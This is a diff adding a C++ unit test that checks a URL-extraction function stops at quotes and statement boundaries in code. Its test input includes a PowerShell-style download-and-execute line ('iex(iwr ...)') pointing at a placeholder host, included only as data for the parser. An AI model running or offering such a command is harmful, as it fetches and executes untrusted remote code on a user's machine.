@@ -339,6 +339,15 @@ TEST(UrlTest, TrimsTrailingPunctuationLikeMailClients) {
   EXPECT_EQ(find_urls_in_text("http://g.example/[a]", 10), (Strings{"http://g.example/[a]"}));
 }
 
+TEST(UrlTest, InCodeQuotesAndStatementsEndAUrl) {
+  const std::string code = "$u='https://a.example/r.ps1';iex(iwr \"http://b.example/x\"),app.launchURL(`http://c.example/`)";
+  EXPECT_EQ(find_urls_in_code(code, 10),
+            (Strings{"https://a.example/r.ps1", "http://b.example/x", "http://c.example/"}));
+  // Views of the code itself.
+  EXPECT_EQ(find_urls_in_code(code, 10)[0].data(), code.data() + 4);
+  EXPECT_EQ(find_urls_in_code(code, 1).size(), 1u);
+}
+
 TEST(UrlTest, FindsIdnUrlsAndStopsAtUnicodeSpaces) {
   EXPECT_EQ(find_urls_in_text("Besuchen Sie https://exämple.com/x\xC2\xA0jetzt", 10),
             (Strings{"https://exämple.com/x"}));
